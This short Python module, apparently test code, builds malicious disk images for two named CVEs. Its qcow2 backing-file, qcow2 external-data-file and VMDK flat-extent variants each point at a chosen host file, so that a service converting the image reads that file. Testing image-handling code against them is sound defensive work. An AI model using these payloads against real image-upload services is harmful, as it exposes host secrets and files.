# SPDX-License-Identifier: Apache-2.0

"""Disk images whose content names a file of the host that opens them.

See CVE-2022-47951 and CVE-2024-32498. Each function makes such an image with
the name of the file and the path of the image.
"""

from collections.abc import Callable
import pathlib
import subprocess

Make = Callable[[pathlib.Path, pathlib.Path], None]

_DESCRIPTOR = """\
# Disk DescriptorFile
version=1
CID=fffffffe
parentCID=ffffffff
createType="monolithicFlat"

RW 2048 FLAT "{secret}" 0
ddb.adapterType = "ide"
ddb.geometry.cylinders = "2"
ddb.geometry.heads = "16"
ddb.geometry.sectors = "63"
"""


def backed(secret: pathlib.Path, path: pathlib.Path) -> None:
    """Make a qcow2 image that has a backing file."""
    names = ('-F', 'raw', '-b', secret, path)
    subprocess.run(
        ['qemu-img', 'create', '-qf', 'qcow2', *names, '1M'], check=True
    )


def with_data_file(secret: pathlib.Path, path: pathlib.Path) -> None:
    """Make a qcow2 image whose data are in another file."""
    # qemu-img would overwrite the file.
    other = 'x' * len(str(secret))
    options = f'data_file={other},data_file_raw=on'
    subprocess.run(
        ['qemu-img', 'create', '-qf', 'qcow2', '-o', options, path, '1M'],
        cwd=path.parent,
        check=True,
    )
    (path.parent / other).unlink()
    data = path.read_bytes()
    path.write_bytes(data.replace(other.encode(), str(secret).encode()))


def flat(secret: pathlib.Path, path: pathlib.Path) -> None:
    """Make a VMDK descriptor, whose extent is another file."""
    path.write_text(_DESCRIPTOR.format(secret=secret))


#: Each kind of image, and the format that its owner declares.
EACH: tuple[tuple[Make, str], ...] = (
    (backed, 'qcow2'),
    (backed, 'raw'),
    (with_data_file, 'qcow2'),
    (with_data_file, 'raw'),
    (flat, 'vmdk'),
)
